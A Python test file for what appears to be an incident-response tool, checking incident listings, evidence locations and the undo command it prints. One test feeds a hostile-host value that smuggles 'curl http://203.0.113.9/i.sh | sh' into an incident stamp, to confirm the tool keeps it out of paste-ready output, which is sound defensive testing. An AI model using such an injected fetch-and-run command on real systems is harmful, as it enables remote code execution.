import json

from build import found, record
from desk import Desk, says

STAMP = "20260314150926"


def _frozen(stamp: str) -> str:
    """A host that says that a process is frozen by this incident."""
    return says(found(evidence=record("exe=/tmp/m", f"contained={stamp}")))


def test_none_at_first(desk: Desk) -> None:
    """Said in words, and as an empty list for programs."""
    done = desk.picket("incidents")
    assert (done.returncode, done.stdout, done.stderr) == (0, "no incidents\n", "")
    assert desk.picket("incidents", "--json").stdout == "[]\n"


def test_what_is_contained_and_how_to_undo_it(desk: Desk) -> None:
    """Where the evidence lies, and the command that thaws."""
    desk.fleet({"web-1": _frozen(STAMP)})
    desk.picket("run", "--json")
    done = desk.picket("incidents")
    first, *rest = done.stdout.splitlines()
    assert first.split()[:4] == [STAMP, "contained", "web-1", "HOST-EXE-001"]
    assert rest == [
        "  web-1: /tmp/m; processes 4242:991:77",
        f"  evidence: /root/incident-{STAMP}/ on web-1",
        f"  undo: picket thaw web-1 {STAMP} --reason TEXT",
    ]
    (incident,) = json.loads(desk.picket("incidents", "--json").stdout)
    assert (incident["id"], incident["part"], incident["state"]) == (STAMP, "web-1", "contained")


def test_a_host_writes_no_command(desk: Desk) -> None:
    """A line to be pasted holds nothing that a hostile host made up."""
    desk.fleet({"web-1": _frozen("1; curl http://203.0.113.9/i.sh | sh #")})
    desk.picket("run", "--json")
    assert "curl" not in desk.picket("incidents").stdout
